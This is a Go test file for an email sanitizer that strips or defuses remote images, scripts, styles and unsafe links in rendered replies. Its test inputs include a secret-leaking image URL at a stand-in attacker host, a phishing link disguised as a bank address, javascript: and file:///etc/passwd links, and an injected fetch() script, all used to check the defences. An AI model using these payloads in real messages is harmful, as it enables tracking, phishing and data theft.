package mailtext

import (
	"bytes"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
)

// reply renders Markdown as the reply composer does (goldmark, GFM, raw HTML
// not passed through) and applies NoRemoteContent.
func reply(t *testing.T, markdown string) string {
	t.Helper()
	var b bytes.Buffer
	if err := goldmark.New(goldmark.WithExtensions(extension.GFM)).Convert([]byte(markdown), &b); err != nil {
		t.Fatal(err)
	}
	out, err := NoRemoteContent("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"></head><body>\n" + b.String() + "</body></html>\n")
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func expectIn(t *testing.T, out string, want ...string) {
	t.Helper()
	for _, w := range want {
		if !strings.Contains(out, w) {
			t.Errorf("output lacks %q:\n%s", w, out)
		}
	}
}

func expectNotIn(t *testing.T, out string, unwanted ...string) {
	t.Helper()
	for _, u := range unwanted {
		if strings.Contains(out, u) {
			t.Errorf("output has %q:\n%s", u, out)
		}
	}
}

func TestNoRemoteContentImages(t *testing.T) {
	out := reply(t, "See ![the chart](https://attacker.example/x.png?data=secret) and ![](http://other.example/y.gif).\n\n"+
		"![pixel](data:image/png;base64,iVBORw0KGgo=) ![c](javascript:alert(1)) ![cid](cid:part1@x)")
	expectNotIn(t, out, "<img", "src=")
	expectIn(t, out,
		`<a href="https://attacker.example/x.png?data=secret" rel="noopener noreferrer nofollow" target="_blank" title="Image not loaded: https://attacker.example/x.png?data=secret">🖼 the chart (attacker.example)</a>`,
		`<a href="http://other.example/y.gif" rel="noopener noreferrer nofollow" target="_blank" title="Image not loaded: http://other.example/y.gif">🖼 image (other.example)</a>`,
		// data:, cid: and other images are their text: nothing is loaded, not even inline.
		"🖼 pixel", "🖼 c", "🖼 cid",
	)
	expectNotIn(t, out, "data:image", "javascript:", "cid:")
}

func TestNoRemoteContentImageInsideLink(t *testing.T) {
	out := reply(t, "[![badge](https://attacker.example/b.svg)](https://site.example/)")
	expectNotIn(t, out, "<img")
	expectIn(t, out, `<a href="https://site.example/" rel="noopener noreferrer nofollow" target="_blank" title="https://site.example/">🖼 badge (attacker.example) (site.example)</a>`)
	if strings.Count(out, "<a ") != 1 {
		t.Errorf("nested links:\n%s", out)
	}
}

func TestNoRemoteContentLinks(t *testing.T) {
	out := reply(t, "[click here](https://evil.example/login), [docs.example](https://docs.example/a), https://plain.example/x, "+
		"www.auto.example, [https://bank.example/login](https://evil.example/login), [write](mailto:help@agentic.example), "+
		"<help@agentic.example>, [Notes](https://docs.google.com/document/d/abc/edit \"t\")")
	expectIn(t, out,
		`<a href="https://evil.example/login" rel="noopener noreferrer nofollow" target="_blank" title="https://evil.example/login">click here (evil.example)</a>`,
		`<a href="https://docs.example/a" rel="noopener noreferrer nofollow" target="_blank" title="https://docs.example/a">docs.example</a>`,
		`<a href="https://plain.example/x" rel="noopener noreferrer nofollow" target="_blank" title="https://plain.example/x">https://plain.example/x</a>`,
		`<a href="http://www.auto.example" rel="noopener noreferrer nofollow" target="_blank" title="http://www.auto.example">www.auto.example</a>`,
		`>https://bank.example/login (evil.example)</a>`,
		`<a href="mailto:help@agentic.example" rel="noopener noreferrer nofollow" target="_blank" title="mailto:help@agentic.example">write (help@agentic.example)</a>`,
		`title="mailto:help@agentic.example">help@agentic.example</a>`,
		`title="https://docs.google.com/document/d/abc/edit">Notes (docs.google.com)</a>`,
	)
	if n, m := strings.Count(out, "<a "), strings.Count(out, `rel="noopener noreferrer nofollow" target="_blank"`); n != 8 || m != 8 {
		t.Errorf("%d links, %d with rel/target:\n%s", n, m, out)
	}
}

func TestNoRemoteContentUnsafeLinksAreText(t *testing.T) {
	out := reply(t, "[one](javascript:alert(1)) [two](vbscript:msgbox) [three](data:text/html,hi) [four](/relative) [five](file:///etc/passwd)")
	expectNotIn(t, out, "<a", "javascript:", "vbscript:", "data:", "file:")
	expectIn(t, out, "<p>one two three four five</p>")
}

func TestNoRemoteContentStripsLoadingMarkup(t *testing.T) {
	// Not produced by the composer (goldmark drops raw HTML), but the function
	// holds for any HTML.
	out, err := NoRemoteContent(`<html><head><meta http-equiv="refresh" content="0;url=https://a.example"><link rel="stylesheet" href="https://a.example/s.css"><style>p{background:url(https://a.example/s)}</style></head>` +
		`<body background="https://a.example/bg"><p style="background-image:url(https://a.example/p)" onclick="x()">Hi</p>` +
		`<picture><source srcset="https://a.example/p.webp"><img src="https://a.example/p.png" srcset="https://a.example/2x.png 2x" alt="pic"></picture>` +
		`<iframe src="https://a.example/f"></iframe><video poster="https://a.example/v.jpg"></video><svg><image href="https://a.example/i"/></svg>` +
		`<a href="https://ok.example" ping="https://a.example/ping" style="x">ok.example</a><script>fetch("https://a.example")</script></body></html>`)
	if err != nil {
		t.Fatal(err)
	}
	expectNotIn(t, out, "<img", "<link", "<style", "<iframe", "<video", "<svg", "<script", "<source", "refresh",
		"style=", "background", "srcset", "ping", "onclick", "poster")
	expectIn(t, out, "<p>Hi</p>", ">🖼 pic (a.example)</a>",
		`<a href="https://ok.example" rel="noopener noreferrer nofollow" target="_blank" title="https://ok.example">ok.example</a>`)
	const want = `<html><head></head><body><p>Hi</p><picture><a href="https://a.example/p.png" rel="noopener noreferrer nofollow" target="_blank" title="Image not loaded: https://a.example/p.png">🖼 pic (a.example)</a></picture>` +
		`<a href="https://ok.example" rel="noopener noreferrer nofollow" target="_blank" title="https://ok.example">ok.example</a></body></html>`
	if out != want {
		t.Errorf("got  %s\nwant %s", out, want)
	}
}
